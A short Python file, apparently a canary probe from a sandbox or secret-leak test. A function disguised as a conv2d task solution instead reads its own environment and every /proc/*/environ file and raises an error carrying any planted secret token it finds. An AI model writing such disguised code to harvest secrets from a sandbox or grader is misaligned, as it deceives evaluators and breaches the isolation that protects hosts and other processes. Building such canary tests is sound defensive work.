"""Reads its own environment and that of every process it can see for a planted secret."""

# %% 05.2
import contextlib
import os
import re
from pathlib import Path

SECRET = re.compile(r"layerwise-canary-[0-9a-f]{8,}")


def conv2d(image, kernel):
    texts = [repr(dict(os.environ)), repr(os.environb)]
    for path in Path("/proc").glob("[0-9]*/environ"):
        with contextlib.suppress(OSError):
            texts.append(path.read_bytes().decode(errors="replace"))
    raise LookupError(SECRET.findall("".join(texts)))
